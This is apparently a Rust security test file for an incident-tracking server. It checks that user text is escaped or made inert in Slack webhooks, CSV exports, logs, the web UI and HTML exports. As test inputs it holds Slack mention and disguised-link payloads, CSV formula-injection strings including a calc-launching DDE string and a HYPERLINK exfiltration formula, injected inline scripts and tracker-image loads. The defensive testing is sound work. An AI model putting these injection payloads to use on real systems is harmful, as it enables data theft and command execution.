//! Outputs are safe where they land (issue 18): what people type reaches chat, spreadsheets, logs, browsers and
//! saved files as text, never as markup, formulas, secrets or remote loads.
//!
//! - Slack-format webhooks: titles, summaries and names full of Slack markup (`<!channel>`, `<@U…>`, disguised
//!   `<https://evil|label>` links, `@here`) arrive escaped per Slack's rules, and read back exactly as typed; the
//!   JSON event keeps the raw text. The summary is written over `/sync` by an Automerge client.
//! - The analytics CSV, read with a real CSV reader: every text cell a spreadsheet would run as a formula starts
//!   with `'`, negative durations stay numbers, and JSON Lines keeps the raw values.
//! - Failed webhook deliveries (a refused connection, an endpoint echoing its own address) leave no part of the
//!   endpoint's secret path or query in the admin delivery log or the server's log (the real binary's stderr).
//! - The web UI is served with a strict content security policy, `nosniff` and `no-referrer`; its page has nothing
//!   inline the policy would block; in Chromium the page works under it (sign-in, the WebAssembly client, `/sync`)
//!   and an injected inline script or remote image is refused.
//! - The HTML export loads nothing: its policy (header and `<meta>`) allows no image, Markdown and raw-HTML images
//!   become plain links or disappear, and the hostile payloads stay inert; the Markdown export stays text.

use std::collections::BTreeMap;
use std::time::Duration;

use anyhow::{Context, ensure};
use incident_doc::Operation;
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use server::webhooks::{DeliverySettings, Endpoint, Format};
use tests::{Browser, DEADLINE, Receiver, SyncClient, TestServer, WindowSize, eventually, hostile};

/// Long enough for a delivery and a few quick retries on a loaded machine.
const DELIVERED: Duration = Duration::from_secs(30);

/// A title that, unescaped, would notify the whole channel and show a link that opens somewhere else.
const HOSTILE_TITLE: &str = "<!channel> Checkout <https://evil.example/login|status page> & more";

/// A summary with every kind of Slack mention and a disguised link, plus an entity that must stay as typed.
const HOSTILE_SUMMARY: &str = "<!here> <@U024BE7LH> <!subteam^SAZ94GDB8> see <https://evil.example/x|the runbook> &amp; @channel";

async fn ops(server: &TestServer, token: &str, id: &str, operations: Value) -> anyhow::Result<()> {
    let response = server.operations(token, id, operations).await;
    ensure!(
        response.status() == StatusCode::OK,
        "operations refused: {}",
        response.text().await?
    );
    Ok(())
}

fn endpoint(name: &str, url: String, format: Format) -> Endpoint {
    Endpoint {
        name: name.into(),
        url,
        secret: None,
        format,
        events: None,
        drills: true,
        restricted: false,
    }
}

/// Slack's escaping undone, written here from Slack's documentation rather than taken from the server: `&lt;`,
/// `&gt;`, then `&amp;`. The word joiners that keep `@channel` from notifying in Mattermost are invisible and
/// dropped.
fn slack_unescape(text: &str) -> String {
    text.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
        .replace('\u{2060}', "")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slack_messages_carry_no_mentions_or_disguised_links_from_user_text() -> anyhow::Result<()>
{
    let chat = Receiver::start().await;
    let raw = Receiver::start().await;
    let (chat_url, raw_url) = (chat.url("/services/T000/B000/XXXX"), raw.url("/hooks/raw"));
    let server = TestServer::start_with(|config| {
        config.webhooks = vec![
            endpoint("chat", chat_url, Format::Slack),
            endpoint("raw", raw_url, Format::Json),
        ];
        config.webhook_delivery = DeliverySettings {
            retry_initial_ms: 100,
            retry_max_secs: 1,
            summary_debounce_secs: 1,
            ..DeliverySettings::default()
        };
    })
    .await;
    let alice = server.token("alice", "write").await;
    let incident = server.declare(&alice, HOSTILE_TITLE).await;
    let id = incident.id.as_str();
    // The summary as any automerge-repo client writes it, over /sync.
    let mut client = SyncClient::connect(&server.ws_url(&alice)).await?;
    client.set_author("alice");
    client.open(id).await?;
    client.apply_local(Operation::SetText {
        field: "summary".into(),
        text: HOSTILE_SUMMARY.into(),
    })?;
    client.sync_until_acknowledged(DEADLINE).await?;
    // A name is user text too: `@here` is a valid token name.
    ops(
        &server,
        &alice,
        id,
        json!([{"op": "proposeHandoff", "role": "commander", "to": "@here"}]),
    )
    .await?;

    for receiver in [&chat, &raw] {
        eventually("three events delivered", DELIVERED, || async {
            (receiver.accepted().len() >= 3).then_some(())
        })
        .await?;
    }
    let raw_texts: BTreeMap<String, String> = raw
        .accepted()
        .iter()
        .map(|d| {
            let event = d.json();
            (
                event["type"].as_str().unwrap_or_default().to_owned(),
                event["text"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    ensure!(
        raw_texts.keys().map(String::as_str).collect::<Vec<_>>()
            == ["declared", "handoffProposed", "summaryChanged"],
        "{raw_texts:?}"
    );
    // The JSON event carries the text as typed: its receivers decide where it lands.
    ensure!(
        raw_texts["declared"].contains(HOSTILE_TITLE)
            && raw_texts["summaryChanged"].contains(HOSTILE_SUMMARY),
        "{raw_texts:?}"
    );
    let chat_events = chat.accepted();
    ensure!(chat_events.len() == 3, "{chat_events:?}");
    for delivery in &chat_events {
        let body = delivery.json();
        let text = body["text"].as_str().context("a text")?;
        // The server's own words have no markup, so any angle bracket would be the user's, unescaped.
        ensure!(
            !text.contains(['<', '>']),
            "user markup reached Slack: {text:?}"
        );
        for mention in [
            "@here",
            "@channel",
            "<!",
            "<@",
            "|status page>",
            "|the runbook>",
        ] {
            ensure!(!text.contains(mention), "{mention:?} in {text:?}");
        }
        // Escaped, not dropped: the message reads exactly as the JSON event's text.
        let shown = slack_unescape(text);
        ensure!(
            raw_texts.values().any(|raw| *raw == shown),
            "{shown:?} is none of {raw_texts:?}"
        );
    }
    let texts: Vec<&str> = chat_events
        .iter()
        .filter_map(|d| d.body.split("\"text\":").nth(1))
        .collect();
    ensure!(
        texts.iter().any(|t| t.contains(
            "&lt;!channel&gt; Checkout &lt;https://evil.example/login|status page&gt; &amp; more"
        )),
        "{texts:?}"
    );
    ensure!(
        texts.iter().any(|t| t.contains("&amp;amp;")),
        "an entity typed by a person shows as typed: {texts:?}"
    );
    client.close().await?;
    server.stop().await;
    Ok(())
}

/// The CSV's text columns (the others hold numbers, booleans and times).
const TEXT_COLUMNS: [&str; 9] = [
    "id",
    "title",
    "template",
    "template_version",
    "severity",
    "status",
    "commanders",
    "responder_names",
    "tags",
];

/// Characters that make a spreadsheet run a cell as a formula when they start it.
const FORMULA_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_that_look_like_formulas_are_neutralised_and_numbers_stay_numbers()
-> anyhow::Result<()> {
    let server = TestServer::start().await;
    // Token names may start with `@` or `-`; the declarer becomes a commander and a responder.
    let mallory = server.token("@mallory", "write").await;
    let formula = r#"=HYPERLINK("https://evil.example/?"&A1,"details")"#;
    let id = server.declare(&mallory, formula).await.id;
    ops(
        &server,
        &mallory,
        &id,
        json!([
            // Detected two minutes before the impact started: a negative duration, as recorded.
            {"op": "setTimestamp", "stage": "impactStarted", "at": "2026-11-25T04:00:00Z"},
            {"op": "setTimestamp", "stage": "detected", "at": "2026-11-25T03:58:00Z"},
            {"op": "assignRole", "role": "operations", "person": "-2+3"},
            {"op": "assignRole", "role": "communications", "person": "+cmd|' /C calc'!A0"},
            {"op": "assignRole", "role": "planning", "person": "=1+1"},
        ]),
    )
    .await?;

    let get = |format: &'static str| {
        server
            .request(
                Method::GET,
                &format!("/api/analytics/incidents?format={format}"),
                Some(&mallory),
            )
            .send()
    };
    let response = get("csv").await?;
    ensure!(response.status() == StatusCode::OK, "{}", response.status());
    let body = response.text().await?;
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let columns: Vec<String> = reader.headers()?.iter().map(str::to_owned).collect();
    let mut rows = Vec::new();
    for record in reader.records() {
        let record = record?;
        rows.push(
            columns
                .iter()
                .cloned()
                .zip(record.iter().map(str::to_owned))
                .collect::<BTreeMap<String, String>>(),
        );
    }
    ensure!(rows.len() == 1, "{body}");
    let row = &rows[0];
    for (column, cell) in row {
        if TEXT_COLUMNS.contains(&column.as_str()) {
            for item in cell.split(';').map(|item| item.trim_start_matches(' ')) {
                ensure!(
                    !item.starts_with(FORMULA_STARTS),
                    "{column} = {cell:?} would run as a formula"
                );
            }
        } else {
            // Numbers, booleans and times: written as they are, so a spreadsheet reads them as values.
            ensure!(
                cell.is_empty()
                    || cell.parse::<i64>().is_ok()
                    || cell.parse::<bool>().is_ok()
                    || chrono::DateTime::parse_from_rfc3339(cell).is_ok(),
                "{column} = {cell:?} is not a plain value"
            );
        }
    }
    ensure!(
        row["title"].starts_with(&format!("'{formula}: ")),
        "{:?}",
        row["title"]
    );
    ensure!(row["commanders"] == "'@mallory", "{:?}", row["commanders"]);
    let responders: Vec<&str> = row["responder_names"].split(';').collect();
    for neutralised in ["'-2+3", "'+cmd|' /C calc'!A0", "'=1+1", "'@mallory"] {
        ensure!(
            responders.contains(&neutralised),
            "{neutralised:?} not among {responders:?}"
        );
    }
    // Numbers are untouched: the negative duration is a number a spreadsheet can sum.
    ensure!(
        row["time_to_detect_seconds"].parse::<i64>()? == -120,
        "{:?}",
        row["time_to_detect_seconds"]
    );
    ensure!(row["time_to_declare_seconds"].parse::<i64>().is_ok());

    // JSON Lines carries the raw values.
    let jsonl = get("jsonl").await?.text().await?;
    let line: Value = serde_json::from_str(jsonl.lines().next().context("one row")?)?;
    ensure!(
        line["title"]
            .as_str()
            .is_some_and(|t| t.starts_with(&format!("{formula}: "))),
        "{line}"
    );
    ensure!(line["time_to_detect_seconds"] == -120, "{line}");
    ensure!(
        line["responder_names"]
            .as_array()
            .is_some_and(|names| names.contains(&json!("-2+3"))),
        "{line}"
    );
    server.stop().await;
    Ok(())
}

/// The secret parts of a chat tool's webhook address: none may be stored or logged.
const SECRET_PARTS: [&str; 5] = [
    "T0SECRET1",
    "B0SECRET2",
    "xoxSECRET3",
    "qSECRET4",
    "/services",
];

/// `http://ADDR/services/T0SECRET1/B0SECRET2/xoxSECRET3?token=qSECRET4`.
fn secret_url(addr: std::net::SocketAddr) -> String {
    format!("http://{addr}/services/T0SECRET1/B0SECRET2/xoxSECRET3?token=qSECRET4")
}

/// An endpoint that refuses every delivery with 404 and quotes the address it was called at, as some chat tools do.
async fn echoing_endpoint() -> anyhow::Result<std::net::SocketAddr> {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let addr = listener.local_addr()?;
    let app = axum::Router::new().fallback(move |uri: axum::http::Uri| async move {
        (
            axum::http::StatusCode::NOT_FOUND,
            format!("no webhook at {uri} (http://{addr}{uri})"),
        )
    });
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Ok(addr)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failed_deliveries_store_and_log_no_part_of_the_secret_url() -> anyhow::Result<()> {
    let down = Receiver::down().await;
    let echo = echoing_endpoint().await?;
    let config = format!(
        "[[webhooks]]\nname = \"down\"\nurl = \"{}\"\nformat = \"slack\"\n\n\
         [[webhooks]]\nname = \"echo\"\nurl = \"{}\"\nformat = \"slack\"\n\n\
         [webhook-delivery]\nretry-initial-ms = 100\nretry-max-secs = 1\nmax-attempts = 2\n",
        secret_url(down.addr),
        secret_url(echo),
    );
    let mut server = TestServer::start_process_with_config(&config).await;
    let alice = server.token("alice", "write").await;
    server.declare(&alice, "Checkout errors").await;
    let admin = server.admin_token.clone();
    let mut logs = BTreeMap::new();
    for name in ["down", "echo"] {
        let path = format!("/api/webhooks/{name}/deliveries");
        let rows = eventually(
            &format!("the delivery to {name} to be given up"),
            DELIVERED,
            || async {
                let (_, log) = server.call(Method::GET, &path, Some(&admin), None).await;
                let rows = log["deliveries"].as_array()?.clone();
                (!rows.is_empty()
                    && rows
                        .iter()
                        .all(|r| r["state"] == "failed" && r["lastError"].is_string()))
                .then_some(rows)
            },
        )
        .await?;
        logs.insert(name, rows);
    }
    let (_, endpoints) = server
        .call(Method::GET, "/api/webhooks", Some(&admin), None)
        .await;
    server.stop_process().await;
    let log = server.log();
    ensure!(
        log.matches("webhook delivery given up").count() == 2,
        "each given-up delivery is logged once:\n{log}"
    );
    for part in SECRET_PARTS {
        ensure!(!log.contains(part), "{part:?} in the server log:\n{log}");
        for (name, rows) in &logs {
            let text = Value::Array(rows.clone()).to_string();
            ensure!(
                !text.contains(part),
                "{part:?} in {name}'s delivery log: {text}"
            );
        }
        ensure!(
            !endpoints.to_string().contains(part),
            "{part:?} in {endpoints}"
        );
    }
    // What failed is still there to read.
    let error = |name: &str| {
        logs[name][0]["lastError"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    };
    ensure!(
        error("down").contains("error sending request"),
        "{}",
        error("down")
    );
    let shown = format!("no webhook at http://{echo}/…");
    ensure!(
        error("echo").starts_with("HTTP 404") && error("echo").contains(&shown),
        "{}",
        error("echo")
    );
    Ok(())
}

/// A content security policy as directive → sources.
fn directives(policy: &str) -> BTreeMap<String, Vec<String>> {
    policy
        .split(';')
        .filter_map(|d| {
            let mut words = d.split_whitespace().map(str::to_owned);
            Some((words.next()?, words.collect()))
        })
        .collect()
}

/// Checks one answer of the web UI carries the strict policy and its companions.
fn check_ui_headers(path: &str, headers: &reqwest::header::HeaderMap) -> anyhow::Result<()> {
    let header = |name: &str| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    let policy = directives(&header("content-security-policy"));
    let sources = |d: &str| policy.get(d).cloned().unwrap_or_default();
    let only = |d: &str, expected: &[&str]| sources(d) == expected;
    ensure!(only("default-src", &["'self'"]), "{path}: {policy:?}");
    ensure!(
        only("script-src", &["'self'", "'wasm-unsafe-eval'"]),
        "{path}: scripts only from here, no inline, no eval: {policy:?}"
    );
    ensure!(only("style-src", &["'self'"]), "{path}: {policy:?}");
    ensure!(only("connect-src", &["'self'"]), "{path}: {policy:?}");
    ensure!(only("img-src", &["'self'", "data:"]), "{path}: {policy:?}");
    ensure!(only("object-src", &["'none'"]), "{path}: {policy:?}");
    ensure!(only("frame-ancestors", &["'none'"]), "{path}: {policy:?}");
    ensure!(only("base-uri", &["'none'"]), "{path}: {policy:?}");
    ensure!(only("form-action", &["'self'"]), "{path}: {policy:?}");
    ensure!(header("x-content-type-options") == "nosniff", "{path}");
    ensure!(header("referrer-policy") == "no-referrer", "{path}");
    ensure!(header("x-frame-options") == "DENY", "{path}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_web_ui_is_served_with_a_strict_content_security_policy() -> anyhow::Result<()> {
    let server = TestServer::start().await;
    for path in ["/", "/index.html", "/app.css", "/js/app.js", "/sw.js"] {
        let response = server.request(Method::GET, path, None).send().await?;
        // `/` explains how to build the client (503) when web/pkg/ is missing: that page is protected too.
        ensure!(
            response.status() == StatusCode::OK
                || (path == "/" && response.status() == StatusCode::SERVICE_UNAVAILABLE),
            "{path}: {}",
            response.status()
        );
        check_ui_headers(path, response.headers())?;
        // A revalidation (304) keeps the headers.
        if let Some(etag) = response.headers().get("etag").cloned() {
            let again = server
                .request(Method::GET, path, None)
                .header("if-none-match", etag)
                .send()
                .await?;
            ensure!(again.status() == StatusCode::NOT_MODIFIED, "{path}");
            check_ui_headers(path, again.headers())?;
        }
    }

    // Nothing in the page needs what the policy forbids: no inline script or style, no code from strings.
    let web = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../web");
    let page = std::fs::read_to_string(web.join("index.html"))?.to_lowercase();
    let mut rest = page.as_str();
    while let Some(start) = rest.find("<script") {
        let tag = &rest[start..start + rest[start..].find('>').context("a closed tag")?];
        ensure!(tag.contains(" src="), "an inline script: {tag}");
        rest = &rest[start + tag.len()..];
    }
    for inline in ["<style", " style=", " onload=", " onclick=", "javascript:"] {
        ensure!(!page.contains(inline), "index.html holds {inline:?}");
    }
    let mut scripts = vec![web.join("sw.js")];
    for entry in std::fs::read_dir(web.join("js"))? {
        scripts.push(entry?.path());
    }
    for path in scripts {
        let code = std::fs::read_to_string(&path)?;
        for forbidden in [
            "eval(",
            "new Function",
            "innerHTML",
            "outerHTML",
            "insertAdjacentHTML",
            "document.write",
            "setAttribute(\"style\"",
        ] {
            ensure!(
                !code.contains(forbidden),
                "{} uses {forbidden:?}, which the policy refuses or which builds markup from text",
                path.display()
            );
        }
    }
    server.stop().await;
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_web_ui_works_under_its_policy_and_refuses_injected_code() -> anyhow::Result<()> {
    let server = TestServer::start().await;
    let alice = server.token("alice", "write").await;
    let id = server.declare(&alice, "Checkout errors").await.id;
    let browser = Browser::open("csp", WindowSize::DESKTOP).await?;
    browser
        .goto(&format!("{}/#token={alice}", server.base_url))
        .await?;
    browser
        .wait_until("the page to store the token", DEADLINE, || async {
            let stored = browser
                .execute("return localStorage.getItem('commandpost.token');", vec![])
                .await?;
            Ok((stored == json!(alice)).then_some(()))
        })
        .await?;
    // The incident page needs the scripts, the WebAssembly client and `/sync`: all allowed by the policy.
    browser
        .goto(&format!("{}/#/incidents/{id}", server.base_url))
        .await?;
    let loaded = browser
        .wait_until("the incident to load and sync", DEADLINE, || async {
            let state = browser
                .execute(
                    r#"const i = document.querySelector('#incident');
                       const s = document.querySelector('#sync-status');
                       return (i && i.getAttribute('data-loaded') === 'true' && s
                               && s.getAttribute('data-state') === 'synced');"#,
                    vec![],
                )
                .await?;
            Ok((state == json!(true)).then_some(()))
        })
        .await;
    if let Err(e) = loaded {
        return Err(browser.failure(&format!("{e:#}")).await);
    }
    let violations = |console: &[String]| {
        console
            .iter()
            .filter(|line| line.contains("Content Security Policy"))
            .cloned()
            .collect::<Vec<_>>()
    };
    let before = violations(&browser.console().await);
    ensure!(
        before.is_empty(),
        "the page broke its own policy: {before:?}"
    );
    // What an injection would try: an inline script, an inline handler, a remote image.
    browser
        .execute(
            r#"const s = document.createElement('script');
               s.textContent = 'window.__inline = 1';
               document.head.append(s);
               const d = document.createElement('div');
               d.innerHTML = '<img src="data:," onerror="window.__handler = 1">';
               document.body.append(d);
               const img = new Image();
               img.src = 'https://tracker.example/pixel.png';
               window.__remote = 'pending';
               img.onload = () => { window.__remote = 'loaded'; };
               img.onerror = () => { window.__remote = 'refused'; };
               return true;"#,
            vec![],
        )
        .await?;
    let verdict = browser
        .wait_until("the injected code to be refused", DEADLINE, || async {
            let verdict = browser
                .execute(
                    "return {inline: window.__inline ?? null, handler: window.__handler ?? null, \
                     remote: window.__remote};",
                    vec![],
                )
                .await?;
            Ok((verdict["remote"] != "pending").then_some(verdict))
        })
        .await?;
    ensure!(
        verdict == json!({"inline": null, "handler": null, "remote": "refused"}),
        "injected code ran or loaded: {verdict}"
    );
    // The browser says why: each refusal is a policy violation (a missing host alone would not be).
    let after = violations(&browser.console().await);
    for refusal in [
        "inline script",
        "inline event handler",
        "tracker.example/pixel.png",
    ] {
        ensure!(
            after.iter().any(|line| line.contains(refusal)),
            "no policy violation for {refusal:?} in {after:?}"
        );
    }
    browser.close().await?;
    server.stop().await;
    Ok(())
}

/// Remote images in every spelling an export could load: Markdown (inline, empty description, reference),
/// raw HTML (`<img>`, `<picture>`/`srcset`, a video poster), and a CSS background.
const REMOTE_IMAGES: &str = "![pixel](https://tracker.example/pixel.png)\n\n\
     ![](https://tracker.example/empty-alt.png)\n\n\
     ![by reference][p]\n\n\
     [p]: https://tracker.example/ref.png\n\n\
     <img src=\"https://tracker.example/raw.png\">\n\n\
     <picture><source srcset=\"https://tracker.example/srcset.png\"></picture>\n\n\
     <video poster=\"https://tracker.example/poster.png\"></video>\n\n\
     <div style=\"background:url(https://tracker.example/bg.png)\">styled</div>\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_load_nothing_remote_and_show_images_as_links() -> anyhow::Result<()> {
    let server = TestServer::start().await;
    let mallory = server.token("mallory", "write").await;
    let id = server.declare(&mallory, "Tracking").await.id;
    ops(&server, &mallory, &id, hostile::operations()).await?;
    let summary = format!("{}\n\n{REMOTE_IMAGES}", hostile::all_in_one());
    ops(
        &server,
        &mallory,
        &id,
        json!([
            {"op": "setText", "field": "summary", "text": summary},
            {"op": "addTimelineEntry", "text": "![x](https://tracker.example/timeline.png)"},
        ]),
    )
    .await?;
    let export = |format: &str| {
        server
            .request(
                Method::GET,
                &format!("/api/incidents/{id}/export?format={format}"),
                Some(&mallory),
            )
            .send()
    };

    let response = export("html").await?;
    ensure!(response.status() == StatusCode::OK);
    let header = response
        .headers()
        .get("content-security-policy")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let policy = directives(&header);
    ensure!(
        policy.get("default-src") == Some(&vec!["'none'".to_owned()])
            && !policy.contains_key("img-src")
            && !header.contains("http")
            && !header.contains("data:")
            && policy.get("frame-ancestors") == Some(&vec!["'none'".to_owned()])
            && policy.contains_key("sandbox"),
        "the export's policy allows loads: {header:?}"
    );
    let page = response.text().await?;
    let model = incident_doc::export::html(&server.document(&mallory, &id).await.view());
    ensure!(page == model, "the served export is the model's page");
    if let Err(problems) = hostile::inert(&page) {
        anyhow::bail!("the HTML export is not inert:\n{}", problems.join("\n"));
    }
    // Saved to a file, the page has no header: its own policy says the same.
    let meta = format!(
        "<meta http-equiv=\"Content-Security-Policy\" content=\"{}\">",
        incident_doc::export::HTML_POLICY
    );
    ensure!(page.contains(&meta), "the page carries its policy");
    let own = directives(incident_doc::export::HTML_POLICY);
    ensure!(
        own.get("default-src") == Some(&vec!["'none'".to_owned()])
            && !own.contains_key("img-src")
            && !incident_doc::export::HTML_POLICY.contains("http"),
        "{own:?}"
    );
    let lower = page.to_lowercase();
    // As markup, not as text a responder typed (the timeline shows raw HTML escaped, as typed).
    for load in [
        "<img", "<picture", "<source", "<video", "<audio", " srcset=", " poster=",
    ] {
        ensure!(!lower.contains(load), "{load:?} in the export");
    }
    // Markdown images are links to their address, labelled with their description or the address itself.
    for link in [
        r#"href="https://tracker.example/pixel.png" rel="noopener noreferrer">pixel</a>"#,
        r#"href="https://tracker.example/empty-alt.png" rel="noopener noreferrer">https://tracker.example/empty-alt.png</a>"#,
        r#"href="https://tracker.example/ref.png" rel="noopener noreferrer">by reference</a>"#,
        r#"href="https://tracker.example/timeline.png" rel="noopener noreferrer">x</a>"#,
    ] {
        ensure!(page.contains(link), "{link:?} missing from the export");
    }

    // The Markdown export stays the text as typed, under the same policy.
    let response = export("markdown").await?;
    ensure!(
        response
            .headers()
            .get("content-security-policy")
            .and_then(|v| v.to_str().ok())
            == Some(header.as_str())
    );
    let markdown = response.text().await?;
    ensure!(
        markdown.contains("![pixel](https://tracker.example/pixel.png)"),
        "{markdown}"
    );
    server.stop().await;
    Ok(())
}
